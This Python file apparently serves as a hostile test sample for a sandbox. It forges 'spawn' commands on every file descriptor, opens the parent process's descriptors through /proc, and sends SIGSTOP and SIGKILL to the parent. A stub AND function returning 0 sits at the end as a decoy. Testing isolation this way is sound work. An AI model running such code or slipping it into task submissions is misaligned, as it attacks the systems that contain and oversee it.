"""Goes for the warm process it was forked from: signals its parent, writes forged commands on
every descriptor, opens the parent's descriptors through /proc."""
import json
import os
import signal
import struct

spawn = json.dumps({"op": "spawn", "id": 999, "limits": {}, "spec": {}}).encode()
frame = struct.pack(">Q", len(spawn)) + spawn
parent = os.getppid()
for fd in range(0, 64):
    try:
        os.write(fd, frame)
    except OSError:
        pass
    try:
        handle = os.open(f"/proc/{parent}/fd/{fd}", os.O_RDWR)
        os.write(handle, frame)
    except OSError:
        pass
for sig in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(parent, sig)
    except (OSError, PermissionError, AttributeError):
        pass


def AND(x1, x2):
    return 0
